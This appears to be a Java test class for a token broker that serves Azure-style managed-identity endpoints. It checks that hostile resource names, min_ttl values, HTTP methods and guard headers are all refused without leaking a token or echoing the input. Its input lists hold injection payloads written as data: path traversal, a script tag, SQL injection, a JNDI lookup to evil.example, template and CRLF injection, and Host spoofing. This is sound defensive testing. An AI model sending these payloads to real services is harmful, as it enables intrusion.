package tokenbroker.hostile;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static tokenbroker.hostile.HostileProfile.RESOURCE;

import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.Method;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tokenbroker.testing.Broker;
import tokenbroker.testing.Eventually;
import tokenbroker.testing.WireMockIdp;

/**
 * Hostile values that a well-formed HTTP request can carry, sent with rest-assured (which encodes them as any client
 * would): resource names and parameters on the three token APIs, methods, guard headers. Every answer keeps
 * {@link AnswerRules}; none but the legitimate ones carries a token, and an error echoes a requested name only
 * when it is a plain name.
 */
@QuarkusTest
@WithTestResource(value = WireMockIdp.class, initArgs = @ResourceArg(name = WireMockIdp.SETUP, value = WireMockIdp.HOSTILE))
class HostileParametersTest {

    /** Names and values no configured resource has: traversal, encodings, control characters, markup, lookups. */
    static final List<String> HOSTILE_NAMES = List.of("../resources", "..", ".", RESOURCE + "/..", RESOURCE + "/../" + RESOURCE,
            "..\\" + RESOURCE, RESOURCE + "\u0000", "\u0000", "\u202e" + RESOURCE, "h\u00f4stile", "<script>alert(1)</script>",
            RESOURCE + "\r\nX-Injected: 1", RESOURCE + "\n", "'; DROP TABLE tokens; --", "%2e%2e%2f" + RESOURCE,
            "${jndi:ldap://evil.example/a}", "{{7*7}}", RESOURCE + " ", " " + RESOURCE, RESOURCE.toUpperCase(),
            "a".repeat(300), RESOURCE + "?min_ttl=0", RESOURCE + "#x", "*", "https://evil.example/", "hostile.read",
            "api://" + RESOURCE, "\\\\evil.example\\share");

    /** What the native API may echo of a requested name (docs/security.md). */
    private static final String PLAIN_NAME = "[A-Za-z0-9._-]{1,64}";
    /** What the Azure endpoints may echo of a {@code resource} parameter: a URI or an id, never markup. */
    private static final String URI_LIKE = "[A-Za-z0-9:/._~-]{1,200}";

    private String token;

    @BeforeEach
    void tokenIsCached() {
        token = Eventually.until("a token for " + RESOURCE, Duration.ofSeconds(20), () -> {
            Response answer = Broker.token(RESOURCE);
            return answer.statusCode() == 200 ? answer.jsonPath().getString("access_token") : null;
        });
    }

    static List<String> names() {
        return HOSTILE_NAMES;
    }

    @ParameterizedTest
    @MethodSource("names")
    void token_hostileResourceName_isRefusedOnEveryApi(String name) {
        refusedWithoutEcho("native " + name, name, PLAIN_NAME,
                Broker.api().urlEncodingEnabled(false).get("/v1/tokens/" + percentEncoded(name)));
        refusedWithoutEcho("App Service " + name, name, URI_LIKE, given().header("X-IDENTITY-HEADER", "x")
                .queryParam("api-version", "2019-08-01").queryParam("resource", name).get("/msi/token"));
        refusedWithoutEcho("IMDS " + name, name, URI_LIKE, Broker.api().queryParam("api-version", "2018-02-01")
                .queryParam("resource", name).get("/metadata/identity/oauth2/token"));
    }

    static List<String> minTtls() {
        return List.of("abc", "-1", "-9223372036854775808", "9223372036854775808", "86401", "1.0", "1,5", " 5", "5 ", "0x1F",
                "\u0000", "\u0661", "Infinity", "NaN", "1e9", "true", "a".repeat(2000));
    }

    @ParameterizedTest
    @MethodSource("minTtls")
    void token_minTtlNotWholeSeconds_is400(String minTtl) {
        Response answer = Broker.api().queryParam("min_ttl", minTtl).get("/v1/tokens/{r}", RESOURCE);
        String what = "min_ttl=" + minTtl;
        assertThat(AnswerRules.assertJsonError(what, AnswerRules.of(answer), 400, "invalid_request")).contains("min_ttl");
        AnswerRules.assertRefused(what, AnswerRules.of(answer), List.of(token));
    }

    static List<Arguments> methods() {
        List<Arguments> cases = new ArrayList<>();
        for (Method method : List.of(Method.POST, Method.PUT, Method.DELETE, Method.PATCH, Method.OPTIONS, Method.HEAD,
                Method.TRACE)) {
            for (String path : List.of("/v1/tokens/" + RESOURCE, "/v1/resources", "/msi/token", "/metadata/identity/oauth2/token")) {
                cases.add(Arguments.of(method, path));
            }
        }
        return cases;
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("methods")
    void anyMethodButGet_is405AndClosesTheConnection(Method method, String path) {
        Response answer = guarded().queryParam("api-version", "2019-08-01").queryParam("resource", RESOURCE)
                .body("{}").request(method, path);
        String what = method + " " + path;
        if (method == Method.HEAD) {
            AnswerRules.assertRefused(what, AnswerRules.of(answer), List.of(token));
            assertThat(answer.statusCode()).isEqualTo(405);
        } else {
            AnswerRules.assertJsonError(what, AnswerRules.of(answer), 405, "method_not_allowed");
            AnswerRules.assertRefused(what, AnswerRules.of(answer), List.of(token));
        }
        assertThat(answer.header("Connection")).as(what).isEqualTo("close");
        assertThat(answer.header("Allow")).as(what).isNull();
        assertThat(answer.header("Access-Control-Allow-Methods")).as(what).isNull();
    }

    static List<Arguments> guardHeaders() {
        return List.of(
                Arguments.of("Metadata", "false", "invalid_request"),
                Arguments.of("Metadata", "1", "invalid_request"),
                Arguments.of("Metadata", "true, true", "invalid_request"),
                Arguments.of("Metadata", "truex", "invalid_request"),
                Arguments.of("X-Forwarded-For", "127.0.0.1", "invalid_request"),
                Arguments.of("x-forwarded-for", "::1", "invalid_request"),
                Arguments.of("Forwarded", "for=127.0.0.1", "invalid_request"),
                Arguments.of("Host", "evil.example", "invalid_request"),
                Arguments.of("Host", "127.0.0.1.nip.io", "invalid_request"),
                Arguments.of("Host", "localhost:abc", "invalid_request"),
                Arguments.of("Host", "[::ffff:7f00:1]", "invalid_request"));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("guardHeaders")
    void token_withHostileGuardHeader_is400(String header, String value, String error) {
        // Replaces the passing value of the same header, if any (Metadata, Host).
        RequestSpecification request = given().header(header, value);
        if (!header.equals("Metadata")) {
            request = request.header("Metadata", "true");
        }
        Response answer = request.get("/v1/tokens/{r}", RESOURCE);
        AnswerRules.assertJsonError(header + ": " + value, AnswerRules.of(answer), 400, error);
        AnswerRules.assertRefused(header + ": " + value, AnswerRules.of(answer), List.of(token));
    }

    private RequestSpecification guarded() {
        return Broker.api().header("X-IDENTITY-HEADER", "x");
    }

    /** Every byte but RFC 3986's unreserved characters percent-encoded; rest-assured would read braces as templates. */
    static String percentEncoded(String value) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
            if (c < 0x80 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0)) {
                encoded.append(c);
            } else {
                encoded.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return encoded.toString();
    }

    /** A 4xx without a token, whose description repeats {@code name} only when it matches {@code echoable}. */
    private void refusedWithoutEcho(String what, String name, String echoable, Response answer) {
        AnswerRules.Reply reply = AnswerRules.of(answer);
        AnswerRules.assertRefused(what, reply, List.of(token));
        assertThat(answer.statusCode()).as(what).isIn(400, 404);
        if (!name.matches(echoable) && !name.isBlank()) {
            assertThat(answer.asString()).as("%s: the name echoed in %s", what, answer.asString()).doesNotContain(name.strip());
        }
    }
}
